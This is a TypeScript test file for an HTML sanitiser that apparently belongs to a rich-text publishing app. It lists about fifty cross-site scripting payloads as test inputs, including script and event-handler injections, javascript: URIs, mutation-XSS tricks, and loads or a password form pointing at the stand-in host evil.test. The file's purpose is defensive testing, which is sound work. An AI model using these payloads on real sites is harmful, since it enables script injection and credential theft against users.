import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { foreignTag } from '@enlace/shared-contract/text';

import { cleanRichText, plainTextOf } from './rich-text';

/** Known attacks by HTML: scripts, changes of the page, and tracking of readers. */
const injections: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/v2/files/a" onload="alert(1)" onclick=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="/api/v2/files/../../logout">',
  '<img srcset="https://evil.test/a 1x" src="/api/v2/art/news/a.svg">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.test" onmouseover="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<p style="background:url(javascript:alert(1))" class="shell" id="root">x</p>',
  '<p onpointerenter=alert(1)>x</p>',
  '<style>@import url(//evil.test/x.css);</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href="//evil.test/">',
  '<meta http-equiv="refresh" content="0;url=//evil.test/">',
  '<form action="//evil.test/"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onclick=alert(1)>x</x>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.test/"><script>alert(1)</script></a>',
  '<p>{{constructor.constructor("alert(1)")()}}</p><marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  `<img src="/api/v2/files/x" alt="'&quot;><script>alert(1)</script>">`,
];

const allowed =
  /^<\/?(h[234]|p|br|hr|ul|ol|li|blockquote|cite|pre|code|figure|figcaption|a|img|strong|em|s|sub|sup)(\s|>|\/)/;

describe('foreign HTML', () => {
  for (const injection of injections)
    test(`is harmless: ${injection.slice(0, 60)}`, () => {
      const clean = cleanRichText(injection);
      const tags = clean.match(/<[^>]*>/g) ?? [];
      for (const tag of tags) {
        assert.match(tag, allowed, clean);
        assert.doesNotMatch(tag.replace(/"[^"]*"/g, '""'), /\s(on\w+|style|class|id|target)=/i, clean);
        assert.doesNotMatch(tag, /(?:href|src|srcset)="\s*(?!https?:\/\/ok\.test|\/api\/v2\/|#|\/(?!\/))/i, clean);
      }
      assert.doesNotMatch(clean, /<\s*(script|style|iframe|svg|form|meta|base)/i);
      assert.equal(cleanRichText(clean), clean, 'cleaning twice changes nothing more');
      assert.doesNotMatch(clean, new RegExp(foreignTag), 'the policy of the browser lets it pass');
    });

  test('keeps the elements of an article', () => {
    const article =
      '<h2>Cómo empezó</h2><p>Una <strong>mesa</strong> y <em>seis</em> sillas.<br />Fin</p><ul><li>uno</li></ul>' +
      '<ol start="3"><li>tres</li></ol><blockquote><p>«Ven»</p></blockquote><pre><code>a &lt; b</code></pre>';
    assert.equal(cleanRichText(article), article);
    assert.doesNotMatch(article, new RegExp(foreignTag));
  });

  test('has plain links to own pages, and links without endorsement to foreign ones', () => {
    assert.equal(cleanRichText('<a href="/chapters" rel="x">a</a>'), '<a href="/chapters">a</a>');
    assert.match(cleanRichText('<a href="https://ok.test/?a=1&b=2">a</a>'), /rel="noopener noreferrer nofollow"/);
    assert.match(cleanRichText('<a href="//evil.test">a</a>'), /^<a( rel="[^"]*")?>a<\/a>$/);
  });

  test('gets lower headings, and loses pictures of other servers', () => {
    assert.equal(cleanRichText('<h1>A</h1><h6>B</h6><b>c</b>'), '<h2>A</h2><h4>B</h4><strong>c</strong>');
    assert.equal(cleanRichText('<figure><img src="https://evil.test/a.png"></figure>'), '<figure></figure>');
    assert.match(
      cleanRichText('<img src="/api/v2/art/news/a.svg" width="1200" height="630" alt="Sol">'),
      /^<img src="\/api\/v2\/art\/news\/a.svg" alt="Sol" width="1200" height="630" loading="lazy" decoding="async" \/>$/,
    );
  });

  test('keeps the words of cells, rows and blocks apart', () => {
    for (const [html, clean] of [
      ['<div>Uno</div><div>Dos</div>', '<p>Uno</p><p>Dos</p>'],
      [
        '<table><tbody><tr><td>Lunes</td><td>10:00</td></tr><tr><th>Martes</th></tr></table>',
        '<p>Lunes · 10:00</p><p>Martes</p>',
      ],
      ['<section><p>Uno</p><p>Dos</p></section>', '<p>Uno</p><p>Dos</p>'],
      ['Uno<div>Dos<div>Tres</div></div>', 'Uno Dos<p>Tres</p>'],
      ['<td>Uno</td><td>Dos', '<p>Uno</p> Dos'],
      ['<dl><dt>Uno</dt><dd>Dos</dd></dl>', '<p>Uno</p><p>Dos</p>'],
    ] as const) {
      assert.equal(cleanRichText(html), clean);
      assert.equal(cleanRichText(clean), clean);
    }
    assert.equal(plainTextOf('<div>Uno</div><div>Dos</div>'), 'Uno Dos');
    const start = performance.now();
    for (const part of ['<div>', '<div', '<tr><td>', '<p>A<div>', '</div>']) cleanRichText(part.repeat(20_000));
    assert.ok(performance.now() - start < 3000);
  });

  test('can be read as plain words', () => {
    assert.equal(plainTextOf('<h2>Uno</h2><p>dos<br>tres &amp; más</p>'), 'Uno dos tres &amp; más');
  });

  test('the words survive more open tags than the parser gets, and the tags after them', () => {
    const deep = `${'<b>'.repeat(20_000)}deep${'</b>'.repeat(20_000)}`;
    assert.equal(plainTextOf(deep), 'deep');
    assert.match(cleanRichText(`${deep}<p>next</p>`), /deep.*<p>next<\/p>$/);
    const long = '<p>word<br></p>'.repeat(3000);
    assert.equal(cleanRichText(long), '<p>word<br /></p>'.repeat(3000));
  });
});
